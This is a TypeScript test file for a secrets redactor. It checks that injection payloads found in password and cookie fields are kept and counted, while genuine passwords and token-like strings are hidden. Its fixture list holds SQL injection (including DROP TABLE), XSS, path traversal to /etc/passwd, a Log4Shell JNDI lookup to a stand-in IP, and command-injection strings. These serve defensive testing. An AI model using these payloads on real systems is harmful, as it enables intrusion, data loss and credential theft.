import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Seeded } from '../../../scripts/corpus/seeded.ts';
import { redactJson, redactor } from './redactors.ts';

const attacks: readonly string[] = [
  "' OR '1'='1",
  "1' OR 1=1-- -",
  "x' UNION SELECT 1,2,3-- -",
  "1'; DROP TABLE users; --",
  "' AND SLEEP(5)-- -",
  "'--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '${jndi:ldap://203.0.113.7/a}',
  '{{7*7}}',
  ';cat /etc/passwd',
  '$(whoami)',
];

const counts = (text: string): Readonly<Record<string, number>> =>
  redactor.redactPage(Buffer.from(text), 'application/x-ndjson').redactions;

for (const attack of attacks) {
  test(`an attack in a field of a secret is kept and counted: ${attack}`, () => {
    const record = JSON.stringify({ password: attack });
    assert.equal(redactJson(record), record);
    assert.deepEqual(counts(record), { 'attack-kept': 1 });
    const encoded = `GET /login?password=${encodeURIComponent(attack)}&x=1`;
    assert.equal(redactor.redactText(encoded), encoded);
  });
}

test('what stands before an attack in a value is hidden, and so are other cookies', () => {
  assert.match(
    redactJson(JSON.stringify({ password: "Tr0ub4dor' OR '1'='1" })),
    /^\{"password":"\[password:[A-Z2-7]{10}\]' OR '1'='1"\}$/,
  );
  assert.match(
    redactJson(JSON.stringify({ cookie: "sid=8fk2kd92; q=' UNION SELECT 1-- -; csrf=9dk3la01" })),
    /^\{"cookie":"\[cookie:[A-Z2-7]{10}\]' UNION SELECT 1-- -\[cookie:[A-Z2-7]{10}\]"\}$/,
  );
});

test('a token of a known family in an attack is hidden', () => {
  const text = redactJson(
    JSON.stringify({ password: "' OR token='ghp_abcdefghijklmnopqrstuvwxyz0123456789'--" }),
  );
  assert.doesNotMatch(text, /ghp_/);
});

test('an attack that is a secret elsewhere in the page is no attack', () => {
  const value = "' OR '1'='1";
  const page = `${JSON.stringify({ password: value })}\n${JSON.stringify({ db_secret_text: 1, authorization: value })}\n`;
  assert.ok(!redactJson(page).includes(value));
});

const passwords = fc.string({
  unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)),
  minLength: 8,
  maxLength: 32,
});

test('a random password is never kept for looking a bit like an attack', () => {
  fc.assert(
    fc.property(passwords, (password) => {
      const { 'attack-kept': kept } = counts(JSON.stringify({ password }));
      assert.equal(kept, undefined);
    }),
    { numRuns: 20_000, seed: 7 },
  );
});

test('a password that a person thinks up is hidden, whatever marks it has', () => {
  const seeded = new Seeded(3);
  for (const mark of [
    "'",
    '"',
    '--',
    '#',
    ';',
    '<3',
    '../',
    '${x}',
    '{{x}}',
    '$(x)',
    '|',
    '&&',
    '`',
    '<b>',
    "'or'",
    '=1',
  ]) {
    for (const password of [
      `${seeded.human()}${mark}`,
      `${mark}${seeded.human()}`,
      `${seeded.human()}${mark}${seeded.human()}`,
    ]) {
      const left = redactJson(JSON.stringify({ password }));
      assert.match(left, /^\{"password":"\[password:[A-Z2-7]{10}\]['"\\#-]{0,4}"\}$/, password);
    }
  }
});
